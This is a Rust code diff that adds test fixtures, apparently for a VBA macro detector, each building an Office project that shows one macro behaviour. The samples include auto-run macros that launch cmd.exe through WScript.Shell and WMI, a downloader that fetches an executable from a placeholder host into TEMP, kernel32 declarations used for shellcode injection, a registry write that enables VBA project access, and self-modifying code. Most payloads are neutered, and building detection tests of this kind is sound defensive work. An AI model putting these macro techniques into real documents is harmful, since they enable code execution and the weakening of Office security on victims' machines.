@@ -110,6 +110,35 @@ pub fn auto_open(seed: &str) -> Project {
     )
 }
 
+/// Projects that each show one behaviour: label and project; `marker(label)` stands in a comment of the module.
+pub fn behaviours() -> Vec<(&'static str, Project)> {
+    let sources = [
+        ("vba-document-open", "Private Sub Document_Open()\n    CreateObject(\"WScript.Shell\").Run \"cmd.exe /c echo harmless\", 0\nEnd Sub\n"),
+        ("vba-close", "Sub AutoClose()\n    MsgBox \"harmless\"\nEnd Sub\n"),
+        (
+            "vba-download",
+            "Sub AutoOpen()\n    Dim x\n    Set x = CreateObject(\"MSXML2.XMLHTTP\")\n    x.Open \"GET\", \"https://files.example/a.exe\", False\n    x.Send\n\
+             \x20   Open Environ(\"TEMP\") & \"\\a.exe\" For Binary As #1\nEnd Sub\n",
+        ),
+        (
+            "vba-declare",
+            "Private Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" (ByVal a As LongPtr, ByVal b As LongPtr, ByVal c As Long, ByVal d As Long) As LongPtr\n\
+             Private Declare PtrSafe Sub RtlMoveMemory Lib \"kernel32\" (ByVal a As LongPtr, b As Any, ByVal c As LongPtr)\n\
+             Private Declare PtrSafe Function CreateThread Lib \"kernel32\" (ByVal a As Long, ByVal b As Long, ByVal c As LongPtr, d As Long, ByVal e As Long, f As Long) As LongPtr\n",
+        ),
+        ("vba-wmi", "Sub AutoOpen()\n    GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\").Create \"cmd.exe /c echo harmless\"\nEnd Sub\n"),
+        ("vba-security", "Sub AutoOpen()\n    CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\AccessVBOM\", 1\nEnd Sub\n"),
+        ("vba-self-modify", "Sub AutoOpen()\n    ThisDocument.VBProject.VBComponents(1).CodeModule.AddFromString \"Sub X(): End Sub\"\nEnd Sub\n"),
+        ("vba-mac", "Sub AutoOpen()\n    MacScript \"do shell script \"\"echo harmless\"\"\"\nEnd Sub\n"),
+        ("vba-helper-only", "Function Twice(x)\n    Twice = x * 2\nEnd Function\n"),
+    ];
+    let project = |(label, source): (&'static str, &str)| {
+        let module = format!("' {}\n{source}", crate::marker(label));
+        (label, Project::new().module("ThisDocument", Kind::Document, "").module("Module1", Kind::Standard, &module))
+    };
+    sources.into_iter().map(project).collect()
+}
+
 /// MS-OVBA 2.4.1 compression with copy tokens; a chunk that does not shrink is stored.
 pub fn compress(data: &[u8]) -> Vec<u8> {
     let mut out = vec![1];
